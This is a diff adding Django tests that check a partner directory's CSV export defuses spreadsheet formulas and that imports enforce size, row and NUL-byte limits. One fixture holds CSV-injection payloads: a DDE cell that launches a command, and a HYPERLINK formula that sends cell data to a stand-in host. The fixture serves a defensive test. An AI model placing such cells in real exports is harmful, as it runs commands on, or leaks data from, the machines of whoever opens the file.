@@ -5,7 +5,7 @@ from datetime import date, time
 from pathlib import Path
 
 from django.core.management import CommandError, call_command
-from django.test import SimpleTestCase, TestCase
+from django.test import SimpleTestCase, TestCase, override_settings
 from wagtail.models import Page, Revision
 
 from partners.importexport import (
@@ -15,8 +15,10 @@ from partners.importexport import (
     CSVImportError,
     OpeningExceptions,
     OpeningHours,
+    escape_formula,
     import_csv,
     read_csv,
+    unescape_formula,
 )
 from partners.models import ChildCentrePage, PartnerPage
 from tests.learningcity.utils import make_portal
@@ -376,3 +378,221 @@ class OpeningHoursNotationTests(SimpleTestCase):
         header, rows = read_csv(io.BytesIO("\ufeffexternal_id,title\nA,Één\n".encode()))
         self.assertEqual(header, ["external_id", "title"])
         self.assertEqual(rows, [(2, {"external_id": "A", "title": "Één"})])
+
+
+class FormulaInjectionTests(ImportExportTestCase):
+    """Cells a spreadsheet would run as a formula are exported with a leading quote, which the import takes off."""
+
+    def export_rows(self, command="export_partners"):
+        path = Path(self.tmp.name) / f"{command}.csv"
+        self.call(command, str(path))
+        with path.open(encoding="utf-8", newline="") as handle:
+            content = handle.read()
+        return content, {row["external_id"]: row for row in csv.DictReader(io.StringIO(content, newline=""))}
+
+    def test_export_neutralises_formulas_an_editor_typed(self):
+        PartnerPageFactory(
+            parent=self.index,
+            external_id="EVIL-1",
+            title="@SUM(1+1)*cmd|' /C calc'!A0",
+            phone='=HYPERLINK("//x.test?"&A2)',
+            summary="+1+1",
+            street="-2+3",
+            municipality=self.municipality,
+        )
+        PartnerPageFactory(parent=self.index, external_id="EVIL-2", summary="\t=1+1", street="\r=1+1")
+        content, rows = self.export_rows()
+        self.assertEqual(rows["EVIL-1"]["phone"], '\'=HYPERLINK("//x.test?"&A2)')
+        self.assertEqual(rows["EVIL-1"]["title"], "'@SUM(1+1)*cmd|' /C calc'!A0")
+        self.assertEqual(rows["EVIL-1"]["summary"], "'+1+1")
+        self.assertEqual(rows["EVIL-1"]["street"], "'-2+3")
+        self.assertEqual(rows["EVIL-2"]["summary"], "'\t=1+1")
+        self.assertEqual(rows["EVIL-2"]["street"], "'\r=1+1")
+        # A carriage return inside a cell is quoted, so it cannot start a row whose first cell is a formula.
+        self.assertIn('"\'\r=1+1"', content)
+        for row in rows.values():
+            for name, cell in row.items():
+                with self.subTest(column=name, cell=cell):
+                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")))
+
+    def test_child_centre_export_neutralises_formulas_too(self):
+        centre = ChildCentrePage(
+            title="Kindcentrum", summary="=1+1", phone="+32 9 123 45 67", external_id="IKC-1", slug="ikc"
+        )
+        self.centres.add_child(instance=centre)
+        _content, rows = self.export_rows("export_childcentres")
+        self.assertEqual(rows["IKC-1"]["summary"], "'=1+1")
+        self.assertEqual(rows["IKC-1"]["phone"], "'+32 9 123 45 67")
+
+    def test_export_then_import_round_trip_is_exact(self):
+        values = {
+            "BS-001": {"phone": "+32 9 123 45 67", "summary": "=1+1 is geen formule", "street": "-"},
+            "BS-002": {"phone": "@school", "summary": "'=quote en formule", "street": "'t Hofje 3"},
+            "BS-003": {"phone": "09 123 45 67", "summary": "'s-Hertogenbosch\r=1+1", "street": "''=twee quotes"},
+        }
+        for external_id, fields in values.items():
+            PartnerPageFactory(parent=self.index, external_id=external_id, municipality=self.municipality, **fields)
+        first, rows = self.export_rows()
+        # A leading "+" of a phone number is kept, behind the quote a spreadsheet shows as text.
+        self.assertEqual(rows["BS-001"]["phone"], "'+32 9 123 45 67")
+        self.assertEqual(rows["BS-003"]["summary"], "'s-Hertogenbosch\r=1+1")
+        self.assertEqual(rows["BS-002"]["street"], "'t Hofje 3")
+
+        out, _err = self.call("import_partners", self.write(first, "export.csv"))
+        self.assertIn("Nothing changed", out)
+        PartnerPage.objects.all().delete()
+        self.call("import_partners", self.write(first, "export.csv"))
+        for external_id, fields in values.items():
+            page = PartnerPage.objects.get(external_id=external_id)
+            for name, value in fields.items():
+                with self.subTest(external_id=external_id, field=name):
+                    self.assertEqual(getattr(page, name), value)
+        self.assertEqual(self.export_rows()[0], first)
+
+    def test_hand_written_phone_numbers_import_with_or_without_the_quote(self):
+        header = [*PARTNER_HEADER, "phone"]
+        rows = [partner_row("BS-001", phone="+32 9 123 45 67"), partner_row("BS-002", phone="'+32 9 765 43 21")]
+        self.call("import_partners", self.write(to_csv(rows, header=header)))
+        self.assertEqual(PartnerPage.objects.get(external_id="BS-001").phone, "+32 9 123 45 67")
+        self.assertEqual(PartnerPage.objects.get(external_id="BS-002").phone, "+32 9 765 43 21")
+
+
+class FormulaEscapeUnitTests(SimpleTestCase):
+    def test_escape_prefixes_only_cells_that_start_a_formula(self):
+        cases = [
+            ("=1+1", "'=1+1"),
+            ("+32 9 123 45 67", "'+32 9 123 45 67"),
+            ("-3.7", "'-3.7"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("'=1", "''=1"),
+            ("'s-Hertogenbosch", "'s-Hertogenbosch"),
+            ("09 123 45 67", "09 123 45 67"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ]
+        for value, cell in cases:
+            with self.subTest(value=value):
+                self.assertEqual(escape_formula(value), cell)
+                self.assertEqual(unescape_formula(cell), value)
+
+    def test_unescape_undoes_escape_for_every_value(self):
+        pieces = ["", "'", "''", "=", "+", "-", "@", "\t", "\r", "a", " "]
+        for first in pieces:
+            for second in pieces:
+                for third in pieces:
+                    value = first + second + third
+                    with self.subTest(value=value):
+                        self.assertEqual(unescape_formula(escape_formula(value)), value)
+
+
+class ImportLimitTests(ImportExportTestCase):
+    def test_a_file_over_the_size_limit_is_refused_before_it_is_read(self):
+        path = self.write(to_csv([partner_row(f"BS-{number:03d}") for number in range(20)]))
+        before = self.state()
+        with (
+            override_settings(LEERSTAD_CSV_IMPORT_MAX_BYTES=1000),
+            self.assertRaisesMessage(CommandError, "an import takes at most 1,000 bytes") as raised,
+        ):
+            self.call("import_partners", path)
+        self.assertIn("LEERSTAD_CSV_IMPORT_MAX_BYTES", str(raised.exception))
+        self.assertEqual(self.state(), before)
+
+    def test_a_file_over_the_row_limit_is_refused_naming_the_limit(self):
+        path = self.write(to_csv([partner_row(f"BS-{number:03d}") for number in range(11)]))
+        with (
+            override_settings(LEERSTAD_CSV_IMPORT_MAX_ROWS=10),
+            self.assertRaisesMessage(
+                CommandError, "Line 12: the file has more than 10 rows; an import takes at most 10"
+            ),
+        ):
+            self.call("import_partners", path, dry_run=True)
+        self.assertFalse(PartnerPage.objects.exists())
+        with override_settings(LEERSTAD_CSV_IMPORT_MAX_ROWS=11):
+            out, _err = self.call("import_partners", path, dry_run=True)
+        self.assertIn("would create 11", out)
+
+    def test_the_limits_default_to_five_megabytes_and_ten_thousand_rows(self):
+        rows = [partner_row(f"BS-{number:05d}", opening_hours="", sdg_targets="") for number in range(10_001)]
+        with self.assertRaisesMessage(CSVImportError, "more than 10,000 rows"):
+            read_csv(io.StringIO(to_csv(rows)))
+        with self.assertRaisesMessage(CSVImportError, "at most 5,242,880 bytes"):
+            read_csv(io.StringIO("external_id,title\n" + ("A," + "b" * 1000 + "\n") * 5300))
+
+    def test_a_huge_stream_is_read_only_up_to_the_limit(self):
+        class EndlessCSV(io.RawIOBase):
+            """A million-row file that is never in memory: it counts what the import reads."""
+
+            def __init__(self):
+                self.lines = 0
+                self.read_bytes = 0
+
+            def readable(self):
+                return True
+
+            def readline(self, size=-1):
+                line = b"external_id,title,kind,sector,summary\n" if not self.lines else b"X,T,library,government,S\n"
+                self.lines += 1
+                if self.lines > 1_000_000:
+                    return b""
+                self.read_bytes += len(line)
+                return line
+
+        for settings, message in [
+            ({"LEERSTAD_CSV_IMPORT_MAX_ROWS": 1000}, "more than 1,000 rows"),
+            ({"LEERSTAD_CSV_IMPORT_MAX_BYTES": 10_000}, "at most 10,000 bytes"),
+        ]:
+            source = EndlessCSV()
+            with self.subTest(settings), override_settings(**settings):
+                with self.assertRaisesMessage(CSVImportError, message):
+                    import_csv(source, PARTNERS, dry_run=True)
+                self.assertLess(source.lines, 1100)
+                self.assertLess(source.read_bytes, 40_000)
+
+    def test_a_file_without_line_breaks_is_not_read_past_the_limit(self):
+        class OneLongLine(io.RawIOBase):
+            def readable(self):
+                return True
+
+            def readline(self, size=-1):
+                assert 0 < size <= 1001, size
+                return b"x" * size
+
+        with (
+            override_settings(LEERSTAD_CSV_IMPORT_MAX_BYTES=1000),
+            self.assertRaisesMessage(CSVImportError, "too large"),
+        ):
+            read_csv(OneLongLine())
+
+    def test_nul_bytes_are_refused_with_their_line_number_and_nothing_is_written(self):
+        content = to_csv([partner_row("BS-001"), partner_row("BS-002", summary="Een\x00school"), partner_row("BS-003")])
+        path = Path(self.tmp.name) / "nul.csv"
+        path.write_bytes(content.encode())
+        with self.assertRaisesMessage(CommandError, "Line 3: contains a NUL character") as raised:
+            self.call("import_partners", str(path))
+        self.assertIn("Nothing was imported: 1 problem", str(raised.exception))
+        self.assertFalse(PartnerPage.objects.exists())
+
+    def test_a_binary_file_gives_a_message_not_a_traceback(self):
+        path = Path(self.tmp.name) / "image.csv"
+        path.write_bytes(b"\x00\x01PK\x03\x04" + bytes(range(256)))
+        with self.assertRaisesMessage(CommandError, "Nothing was imported"):
+            self.call("import_partners", str(path))
+
+    def test_every_bad_row_is_reported_not_only_the_first(self):
+        rows = [partner_row("BS-001", kind="x"), partner_row("BS-002"), partner_row("BS-003", summary="a\x00b")]
+        content = to_csv(rows) + "A,B,C,D,E," + "," * len(PARTNER_HEADER) + "\n"
+        with self.assertRaises(CSVImportError) as raised:
+            import_csv(io.StringIO(content), PARTNERS)
+        self.assertEqual([error.split(":")[0] for error in raised.exception.errors], ["Line 4", "Line 5"])
+        self.assertFalse(PartnerPage.objects.exists())
+
+    def test_verbose_import_reports_every_row_with_its_line(self):
+        self.call("import_partners", self.write(to_csv([partner_row("BS-001")])))
+        rows = [partner_row("BS-001"), partner_row("BS-002"), partner_row("BS-003", title="Nieuw")]
+        self.call("import_partners", self.write(to_csv(rows[:2])))
+        out, _err = self.call("import_partners", self.write(to_csv(rows)), verbosity=2)
+        self.assertIn("  = line 2: BS-001 (Basisschool BS-001)", out)
+        self.assertIn("  = line 3: BS-002 (Basisschool BS-002)", out)
+        self.assertIn("  + line 4: BS-003 (Nieuw)", out)
